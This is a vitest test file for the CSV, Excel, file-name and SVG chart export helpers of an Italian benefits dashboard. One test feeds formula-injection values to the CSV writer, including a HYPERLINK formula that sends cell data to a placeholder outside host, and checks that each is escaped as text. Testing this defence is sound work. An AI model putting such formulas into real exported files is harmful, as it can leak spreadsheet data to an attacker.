import { describe, expect, test } from 'vitest';
import { toCsv } from './csv.ts';
import { fileName } from './file-name.ts';
import { frameSvg, wrapText, textWidth } from './image.ts';
import { sourceLines } from './source.ts';
import { hasSuppressed, type TableModel } from './table.ts';
import { xlsxSheet } from './xlsx.ts';
import { CONFIDENTIALITY_NOTE } from '#lib/format/index.ts';

const table: TableModel = {
	caption: 'Nuclei per mese',
	columns: [
		{ key: 'mese', label: 'Mese', kind: 'text' },
		{ key: 'nuclei', label: 'Nuclei', kind: 'count' },
		{ key: 'importo', label: 'Importo medio; €', kind: 'euro' }
	],
	rows: [
		{ mese: 'gennaio 2024', nuclei: 12345, importo: 618.4 },
		{ mese: 'febbraio 2024', nuclei: null, importo: null }
	]
};

test('the CSV holds the table as on screen, suppressed cells included, quoted where needed', () => {
	const lines = toCsv(table).split('\r\n');
	expect(lines[0]).toBe('Mese;Nuclei;"Importo medio; €"');
	expect(lines[1].replace(/[\u00a0\u202f]/g, ' ')).toBe('gennaio 2024;12.345;618,40 €');
	expect(lines[2]).toBe('febbraio 2024;< 3;n.d.');
});

test('Excel cells keep numbers as numbers and suppressed values as their text', () => {
	const sheet = xlsxSheet(table);
	expect(sheet[1][1]).toMatchObject({ type: Number, value: 12345 });
	expect(sheet[2][1]).toMatchObject({ type: String, value: '< 3' });
});

test('file names say territory, indicator and period', () => {
	expect(fileName({ territory: 'Sant\'Angelo di Piove di Sacco', indicator: 'nuclei_per_1000', period: '2019-04 2024-02' }, 'png')).toBe(
		'cruscotto_sant-angelo-di-piove-di-sacco_nuclei-per-1000_2019-04-2024-02.png'
	);
});

test('a text cell or label that a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
	// Territory names come from the extracts (the publisher's registry, a TopoJSON): data, not code.
	const hostile: TableModel = {
		caption: 'Confronto',
		columns: [
			{ key: 'nome', label: '=HYPERLINK("http://x.example/?"&A2)', kind: 'text' },
			{ key: 'var', label: 'Variazione', kind: 'change' }
		],
		rows: [
			{ nome: '=1+1', var: -0.031 },
			{ nome: '+SUM(A1)', var: 0.02 },
			{ nome: '-2+3', var: null },
			{ nome: '@cmd', var: null },
			{ nome: '\tTAB', var: null },
			{ nome: 'Abano Terme', var: null }
		]
	};
	const lines = toCsv(hostile).split('\r\n');
	expect(lines[0]).toBe(`"'=HYPERLINK(""http://x.example/?""&A2)";Variazione`);
	expect(lines.slice(1, 7).map((l) => l.split(';')[0])).toEqual(["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tTAB", 'Abano Terme']);
	// A formatted number keeps its sign: it is ours, not data, and must stay a number for the spreadsheet.
	expect(lines[1].split(';')[1]).toMatch(/^−3,1\s?%$/);
	expect(lines[2].split(';')[1]).toMatch(/^\+2,0\s?%$/);
});

const manifest = {
	version: '2026-11-27T050000Z',
	published_at: '2026-11-27T05:00:00Z',
	period: { from: '2019-04', to: '2026-10' },
	synthetic: { microdata: true, ats_map: true }
};

test('the source under an exported chart: version, synthetic data, and the confidentiality note only when a value is suppressed', () => {
	const plain = sourceLines({ ...manifest, synthetic: { microdata: false, ats_map: false } }, false);
	expect(plain).toHaveLength(1);
	expect(plain[0]).toMatch(/^Fonte: elaborazione Cruscotto su dati INPS, .*ISTAT .* Versione dei dati 2026-11-27T050000Z, pubblicata il 27 novembre 2026; periodo da aprile 2019 a ottobre 2026\.$/);
	const demo = sourceLines(manifest, true);
	expect(demo[0]).toBe(CONFIDENTIALITY_NOTE);
	expect(demo[1]).toMatch(/^Dati sintetici: i dati sui nuclei sono generati a scopo dimostrativo; gli Ambiti territoriali sono sintetici/);
	expect(sourceLines(null, false)).toEqual([expect.stringMatching(/^Fonte: .*\(territori e popolazione residente\)\.$/)]);
});

test('suppressed cells are found in a table as on screen: null numbers, "< 3" and "n.d." texts; "—" is not one', () => {
	expect(hasSuppressed(table)).toBe(true);
	expect(hasSuppressed({ ...table, rows: [table.rows[0]] })).toBe(false);
	expect(hasSuppressed({ ...table, rows: [{ mese: 'marzo 2024', nuclei: '—', importo: 1 }] })).toBe(false);
	expect(hasSuppressed({ caption: '', columns: [{ key: 'n', label: 'Nuclei', kind: 'text' }], rows: [{ n: '< 3' }] })).toBe(true);
});

test('long text wraps inside the width, a word at a time', () => {
	const lines = wrapText(CONFIDENTIALITY_NOTE, 400, 11);
	expect(lines.length).toBeGreaterThan(2);
	expect(lines.join(' ')).toBe(CONFIDENTIALITY_NOTE);
	for (const l of lines) expect(textWidth(l, 11)).toBeLessThanOrEqual(400);
});

/** The legend's labels, each one's lines joined. */
const legendOf = (svg: string) =>
	[...svg.matchAll(/<g data-legend-item="">(.*?)<\/g>/g)].map((m) => [...m[1].matchAll(/<tspan [^>]*>([^<]*)<\/tspan>/g)].map((t) => t[1]).join(' '));

describe('the framed chart', () => {
	const chart = '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="300"><path d="M0,0L10,10" fill="none" stroke="#0066CC" /></svg>';
	const framed = frameSvg(chart, 600, 300, {
		title: 'Nuclei beneficiari per mese',
		subtitle: 'Pozzuoli · da aprile 2019 a ottobre 2026',
		legend: [
			{ label: 'Pozzuoli: nuclei (RdC + PdC, poi ADI)', color: '#0066CC' },
			{ label: 'Campania', color: '#C14F00', dash: '6 3' },
			{ label: 'Italia <totale> & "altro"', color: '#4D5B69', shape: 'box' }
		],
		footer: sourceLines(manifest, true)
	});
	const text = framed.text;
	// Elements by tag, with their attributes and text, without a DOM (the unit tests run in Node).
	const texts = (attr: string) => [...text.matchAll(new RegExp(`<text [^>]*${attr}[^>]*>([^<]*)</text>`, 'g'))].map((m) => m[1]);

	test('is one standalone SVG, its title, legend and footer around the chart, taller than the chart', () => {
		expect(text.startsWith('<svg xmlns="http://www.w3.org/2000/svg" width="600" height="')).toBe(true);
		expect(text.endsWith('</svg>')).toBe(true);
		expect(framed.width).toBe(600);
		expect(framed.height).toBeGreaterThan(300 + 100);
		expect(text).toContain(`height="${framed.height}" viewBox="0 0 600 ${framed.height}"`);
		expect(texts('data-export-title')).toEqual(['Nuclei beneficiari per mese']);
		expect(texts('data-export-subtitle')).toEqual(['Pozzuoli · da aprile 2019 a ottobre 2026']);
		expect(text).toContain('<title>Nuclei beneficiari per mese — Pozzuoli · da aprile 2019 a ottobre 2026</title>');
		expect(legendOf(text)).toEqual(['Pozzuoli: nuclei (RdC + PdC, poi ADI)', 'Campania', 'Italia &lt;totale&gt; &amp; &quot;altro&quot;']);
		expect(text).toMatch(/<line [^>]*stroke="#C14F00" stroke-width="3" stroke-dasharray="6 3"/);
		expect(text).toMatch(/<rect [^>]*fill="#4D5B69"/);
		const notes = texts('data-export-note').join(' ');
		expect(notes).toContain(CONFIDENTIALITY_NOTE.replaceAll('<', '&lt;'));
		expect(notes).toContain('Versione dei dati 2026-11-27T050000Z');
		// The font named with fallbacks for a viewer without Titillium Web.
		expect(text).toMatch(/^<svg [^>]*font-family="'Titillium Web', [^"]*sans-serif"/);
	});

	test('on a phone\'s width a legend label longer than the row wraps under its swatch, and the next entry starts a row below it', () => {
		const narrow = frameSvg('<svg width="358" height="300"></svg>', 358, 300, {
			title: 'Nuclei beneficiari per mese',
			legend: [
				{ label: 'Ambito sintetico Napoli 25: nuclei (RdC + PdC, poi ADI)', color: '#0066CC' },
				{ label: 'Campania', color: '#C14F00' }
			],
			footer: []
		}).text;
		expect(legendOf(narrow)).toEqual(['Ambito sintetico Napoli 25: nuclei (RdC + PdC, poi ADI)', 'Campania']);
		const tspans = [...narrow.matchAll(/<tspan x="([\d.]+)" y="([\d.]+)">([^<]*)<\/tspan>/g)].map((m) => ({ x: Number(m[1]), y: Number(m[2]), text: m[3] }));
		expect(tspans.length).toBe(3);
		for (const t of tspans) expect(t.x + textWidth(t.text, 13)).toBeLessThanOrEqual(358 - 16);
		expect(tspans[1].y).toBeGreaterThan(tspans[0].y);
		expect(tspans[2].y).toBeGreaterThan(tspans[1].y);
		expect(Number(/<svg x="0" y="(\d+)"/.exec(narrow)![1])).toBeGreaterThan(tspans[2].y);
	});

	test('the chart sits whole below the legend and above the footer', () => {
		const body = /<svg x="0" y="(\d+)" data-export-chart="" xmlns="http:\/\/www.w3.org\/2000\/svg" width="600" height="300">/.exec(text);
		expect(body).not.toBeNull();
		const top = Number(body![1]);
		const baselines = (attr: string) => [...text.matchAll(new RegExp(`<text [^>]*y="([\\d.]+)"[^>]*${attr}`, 'g'))].map((m) => Number(m[1]));
		expect(Math.max(...baselines('data-export-subtitle'))).toBeLessThan(top);
		expect(Math.min(...baselines('data-export-note'))).toBeGreaterThan(top + 300);
		expect(Math.max(...baselines('data-export-note'))).toBeLessThan(framed.height);
	});
});
